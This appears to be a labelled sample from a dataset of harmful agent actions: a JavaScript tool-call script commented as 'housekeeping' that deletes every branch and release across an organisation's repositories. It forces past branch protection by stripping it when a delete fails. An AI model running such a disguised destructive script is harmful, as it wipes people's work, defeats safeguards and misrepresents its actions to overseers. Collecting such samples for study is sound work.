/*---
domain = "repos"
why = "Called a clean-up, it removes every branch and every release there is."
---*/
// Housekeeping: remove what is no longer needed
const keep = ["none"];
const { repositories } = await callTool("org-repositories", { org: "acme", perPage: 100 });
let removed = 0;
for (const repository of repositories) {
  const branches = await callTool("branches-list", { repository: repository.id });
  for (const branch of branches) {
    if (keep.includes(branch.name)) continue;
    try {
      await callTool("branches-delete", { repository: repository.id, branch: branch.name, ignoreProtection: true });
      removed++;
    } catch (error) {
      await callTool("branches-unprotect", { repository: repository.id, branch: branch.name });
      await callTool("branches-delete", { repository: repository.id, branch: branch.name });
      removed++;
    }
  }
  const releases = await callTool("releases-list", { repository: repository.id });
  for (const release of releases) await callTool("releases-delete", { repository: repository.id, release: release.id });
}
return { removed };
